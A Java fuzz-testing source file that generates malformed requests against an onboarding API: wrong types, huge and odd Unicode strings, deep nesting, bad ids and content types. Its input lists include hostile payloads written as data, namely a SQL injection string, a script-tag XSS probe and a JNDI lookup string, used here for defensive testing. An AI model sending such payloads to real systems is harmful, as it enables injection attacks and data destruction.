package io.onboarding.orchestrator.fuzz;

import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import net.jqwik.api.Tuple.Tuple2;

import io.onboarding.orchestrator.fuzz.Mutation.Key;
import io.onboarding.orchestrator.fuzz.Mutation.Segment;
import io.onboarding.orchestrator.fuzz.Mutation.Value;

/**
 * The generators of the changes: which kind, where in the request, with what. The body,
 * where most of the rules are, gets most of the weight. Lengths and depths are ranges
 * rather than fixed values, so that jqwik shrinks a failure to the smallest one that
 * still fails.
 */
final class Mutations {

	private static final String WRONG_TYPE = "wrong type";

	private static final String HUGE = "huge string";

	private static final String ODD = "odd unicode";

	private static final String NESTED = "deep nesting";

	private static final List<Value> NUMBERS = List.of(Value.raw(WRONG_TYPE, "42"), Value.raw(WRONG_TYPE, "-1"),
			Value.raw(WRONG_TYPE, "0.5"), Value.raw(WRONG_TYPE, "1e309"),
			Value.raw(WRONG_TYPE, "123456789012345678901234567890"));

	private static final List<Value> BOOLEANS = List.of(Value.raw(WRONG_TYPE, "true"), Value.raw(WRONG_TYPE, "false"));

	private static final List<Value> TEXTS = List.of(Value.text(WRONG_TYPE, "42"), Value.text(WRONG_TYPE, "true"),
			Value.text(WRONG_TYPE, "not a value"));

	private static final List<Value> ARRAYS = List.of(Value.raw(WRONG_TYPE, "[]"), Value.raw(WRONG_TYPE, "[\"a\"]"),
			Value.raw(WRONG_TYPE, "[null]"), Value.raw(WRONG_TYPE, "[{}]"));

	private static final List<Value> OBJECTS = List.of(Value.raw(WRONG_TYPE, "{}"),
			Value.raw(WRONG_TYPE, "{\"unexpected\":true}"));

	private Mutations() {
	}

	static Arbitrary<Mutation> of(Endpoint endpoint) {
		List<Tuple2<Integer, Arbitrary<Mutation>>> choices = new ArrayList<>();
		choices.add(weighted(1, Arbitraries.just(new Mutation.Unchanged())));
		if (endpoint.body() != null) {
			Arbitrary<String> paths = Arbitraries.of(endpoint.mutablePaths());
			choices.add(weighted(3, paths.map(Mutation.Removed::new)));
			choices.add(weighted(2, paths.map(path -> new Mutation.Replaced(path, Value.raw("null", "null")))));
			choices.add(weighted(4, paths.flatMap(
					path -> wrongTypeFor(endpoint.nodeAt(path)).map(value -> new Mutation.Replaced(path, value)))));
			choices.add(weighted(3, Combinators.combine(paths, hugeStrings()).as(Mutation.Replaced::new)));
			choices.add(weighted(4, Combinators.combine(paths, oddStrings()).as(Mutation.Replaced::new)));
			choices.add(weighted(2, Combinators.combine(paths, deepNesting()).as(Mutation.Replaced::new)));
			choices.add(weighted(2,
					Combinators.combine(Arbitraries.of(endpoint.objectPaths()), memberNames(), memberValues())
						.as(Mutation.ExtraMember::new)));
			choices.add(weighted(2, Arbitraries.of(Mutation.Breakage.class).map(Mutation.BrokenJson::new)));
			choices.add(weighted(1, Arbitraries.integers().between(0, 99).map(Mutation.Truncated::new)));
			choices.add(weighted(1, Arbitraries.just(new Mutation.Oversized())));
		}
		choices.add(weighted(2, contentTypes().map(Mutation.ContentType::new)));
		if (!endpoint.ids().isEmpty()) {
			choices.add(weighted(2,
					Combinators.combine(Arbitraries.of(endpoint.ids()), wrongIds()).as(Mutation.WrongId::new)));
		}
		List<String> parameters = new ArrayList<>(endpoint.parameters());
		parameters.add("unexpected");
		choices.add(weighted(endpoint.parameters().isEmpty() ? 1 : 3,
				Combinators.combine(Arbitraries.of(parameters), parameterValues()).as(Mutation.QueryParameter::new)));
		Arbitrary<Key> keys = endpoint.operatorOnly() ? Arbitraries.of(Key.class)
				: Arbitraries.of(Key.NONE, Key.UNKNOWN);
		choices.add(weighted(1, keys.map(Mutation.Credentials::new)));
		// DELETE is left out: on a path of this API it would delete a fixture that other
		// requests work on
		List<String> otherMethods = Stream.of("GET", "POST", "PUT", "PATCH")
			.filter(method -> !method.equals(endpoint.method()))
			.toList();
		choices.add(weighted(1, Arbitraries.of(otherMethods).map(Mutation.WrongMethod::new)));
		return Arbitraries.frequencyOf(choices);
	}

	/** Values of every JSON type but the node's own. */
	private static Arbitrary<Value> wrongTypeFor(JsonNode node) {
		List<Value> values = new ArrayList<>();
		if (!node.isNumber()) {
			values.addAll(NUMBERS);
		}
		if (!node.isBoolean()) {
			values.addAll(BOOLEANS);
		}
		if (!node.isTextual()) {
			values.addAll(TEXTS);
		}
		if (!node.isArray()) {
			values.addAll(ARRAYS);
		}
		if (!node.isObject()) {
			values.addAll(OBJECTS);
		}
		return Arbitraries.of(values);
	}

	/** Up to 100,000 characters: ASCII, digits, two-byte and four-byte UTF-8, words. */
	private static Arbitrary<Value> hugeStrings() {
		Arbitrary<String> units = Arbitraries.of("x", "9", "é", "😀", "a ");
		return Combinators.combine(units, Arbitraries.integers().between(101, 100_000))
			.as((unit, times) -> Value.text(HUGE, unit.repeat(times),
					"\"" + Mutation.printable(unit) + "\" x " + times));
	}

	private static Arbitrary<Value> oddStrings() {
		Arbitrary<Value> known = Arbitraries.of(Value.text(ODD, "\u202Eexe.txt\u202C", "right-to-left override"),
				Value.text(ODD, "a\u200Bb\u200Cc\u200Dd\uFEFF", "zero-width characters"),
				Value.text(ODD, "😀👩‍👩‍👧‍👦🏳️‍🌈", "emoji joined by zero-width joiners"),
				Value.text(ODD, "e" + "\u0301".repeat(500), "500 combining accents on one letter"),
				Value.text(ODD, "Z\u0335\u0321a\u0336\u0322l\u0337g\u0338o\u0334", "combining marks"),
				Value.raw(ODD, "\"a\\ud800b\"", "a lone high surrogate \\ud800"),
				Value.raw(ODD, "\"\\udc00\"", "a lone low surrogate \\udc00"),
				Value.raw(ODD, "\"\\udc00\\ud800\"", "a surrogate pair in the wrong order"),
				Value.text(ODD, "a\u0000b", "a NUL character"),
				Value.text(ODD, "\u0007\u001B[31m\b\r\n", "control characters"),
				Value.text(ODD, "\u2028\u2029", "line and paragraph separators"),
				Value.text(ODD, "\uFFFE\uFFFF\uFFFD", "noncharacters"),
				Value.text(ODD, "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "letters beyond the Basic Multilingual Plane"),
				Value.text(ODD, "ＧＢ", "full-width letters"),
				Value.text(ODD, "Вaker Street", "a Cyrillic look-alike letter"),
				Value.text(ODD, "İıſß", "letters that change length under case mapping"),
				Value.text(ODD, "   ", "blanks only"), Value.text(ODD, "", "empty"),
				Value.text(ODD, "'; DROP TABLE clients; --", "SQL"),
				Value.text(ODD, "<script>alert(1)</script>", "HTML"),
				Value.text(ODD, "${jndi:ldap://example.com/a}", "a lookup"),
				Value.text(ODD, "%s%n%x", "format specifiers"));
		Arbitrary<Value> any = Arbitraries.strings()
			.all()
			.ofMinLength(1)
			.ofMaxLength(40)
			.map(text -> Value.text(ODD, text));
		return Arbitraries.frequencyOf(List.of(Tuple.of(3, known), Tuple.of(1, any)));
	}

	/**
	 * Arrays in arrays or objects in objects, around Jackson's nesting limit and well
	 * beyond it.
	 */
	private static Arbitrary<Value> deepNesting() {
		return Combinators.combine(Arbitraries.integers().between(100, 2_000), Arbitraries.of(true, false))
			.as((depth, arrays) -> arrays
					? Value.raw(NESTED, "[".repeat(depth) + "]".repeat(depth), depth + " nested arrays")
					: Value.raw(NESTED, "{\"a\":".repeat(depth) + "1" + "}".repeat(depth), depth + " nested objects"));
	}

	private static Arbitrary<String> memberNames() {
		return Arbitraries.of("unexpected", "", "__proto__", "constructor", "$where", "id", "status", "createdAt",
				"a.b", "x".repeat(1_000), "\u202Ename", "😀", "na\u0000me");
	}

	private static Arbitrary<Value> memberValues() {
		return Arbitraries.of(Value.raw("extra", "true"), Value.text("extra", "text"), Value.raw("extra", "{}"),
				Value.raw("extra", "[1,2]"), Value.raw("extra", "null"),
				Value.raw("extra", "{\"nested\":{\"deeper\":[1,{\"deepest\":true}]}}"));
	}

	/** "" sends no Content-Type at all. */
	private static Arbitrary<String> contentTypes() {
		return Arbitraries.of("", "text/plain", "application/xml", "application/x-www-form-urlencoded",
				"multipart/form-data", "application/octet-stream", "application/json; charset=UTF-16",
				"application/json; charset=nonsense", "application/jsonx", "not a media type", "*/*");
	}

	/**
	 * Ids that name nothing: malformed, random UUIDs, another client's. Characters that
	 * Spring Security's firewall refuses in a path before the API sees it
	 * ({@code ; % \ /}, NUL, line breaks) are not among them, nor paths beyond Tomcat's 8
	 * KB request line.
	 */
	private static Arbitrary<Segment> wrongIds() {
		Arbitrary<Segment> known = Arbitraries.of(Segment.of("not-a-uuid"),
				Segment.of("00000000-0000-0000-0000-000000000000"), Segment.of("-1"), Segment.of("0"),
				Segment.of("null"), Segment.of("undefined"), Segment.of(" "), Segment.of("1".repeat(1_000)),
				Segment.of("0123456789abcdef0123456789abcdef"), Segment.of("ZZZZZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZZZZZZZZZ"),
				Segment.of("\u202Eabc"), Segment.of("😀"), Segment.of("e\u0301"), Segment.of("\u200B"),
				Segment.fixture("partner", "the id of another client"));
		Arbitrary<Segment> uuids = Combinators.combine(Arbitraries.longs(), Arbitraries.longs())
			.as((high, low) -> Segment.of(new UUID(high, low).toString()));
		Arbitrary<Segment> any = Arbitraries.strings()
			.alpha()
			.numeric()
			.withChars("-_~")
			.ofMinLength(1)
			.ofMaxLength(200)
			.map(Segment::of);
		return Arbitraries.frequencyOf(List.of(Tuple.of(3, known), Tuple.of(2, uuids), Tuple.of(1, any)));
	}

	private static Arbitrary<Segment> parameterValues() {
		Arbitrary<Segment> known = Arbitraries.of(Stream
			.of("-1", "0", "1", "101", "100000", "2147483647", "2147483648", "99999999999999999999", "1.5", "abc", "",
					" ", "true", "null", "*", "%", "active,pending", "2024-13-45", "2024-02-30", "2024-01-01T25:00:00Z",
					"+1000000000-01-01", "not-a-uuid", "clients.*", "x".repeat(1_000), "\u0000", "\u202Eabc", "😀",
					"e\u0301", "'; DROP TABLE clients; --")
			.map(Segment::of)
			.toList());
		Arbitrary<Segment> any = Arbitraries.strings().all().ofMaxLength(30).map(Segment::of);
		return Arbitraries.frequencyOf(List.of(Tuple.of(3, known), Tuple.of(1, any)));
	}

	private static Tuple2<Integer, Arbitrary<Mutation>> weighted(int weight, Arbitrary<? extends Mutation> mutations) {
		Arbitrary<Mutation> widened = mutations.map(mutation -> mutation);
		return Tuple.of(weight, widened);
	}

}
